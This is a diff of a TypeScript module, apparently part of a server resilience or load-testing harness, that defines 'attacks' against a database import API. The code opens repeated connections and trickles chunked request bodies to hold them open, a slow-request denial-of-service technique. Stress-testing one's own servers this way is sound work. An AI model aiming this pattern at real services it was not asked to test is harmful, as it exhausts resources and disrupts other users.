@@ -1,6 +1,6 @@
 import { repeat, rest } from './attack.ts';
 import type { Attack } from './attack.ts';
-import { headOf, held, open, send } from './connection.ts';
+import { headOf, held, open, readResponse, send } from './connection.ts';
 
 const ALIASES = 20;
 const PATTERNS = 90;
@@ -45,7 +45,7 @@ export const databaseConnections: Attack[] = [
       repeat(IMPORTS, signal, async () => {
         const socket = await open(target);
         const type = { 'content-type': 'application/x-ndjson', 'transfer-encoding': 'chunked' };
-        socket.resume().write(headOf(target, 'POST /api/v1/collections/imported/import?atomic=true', type));
+        readResponse(socket).write(headOf(target, 'POST /api/v1/collections/imported/import?atomic=true', type));
         const line = `${JSON.stringify({ text: 'x'.repeat(TRICKLE_BYTES - 12) })}\n`;
         const timer = setInterval(() => socket.write(`${line.length.toString(16)}\r\n${line}\r\n`), 1_000);
         await held(socket, signal);
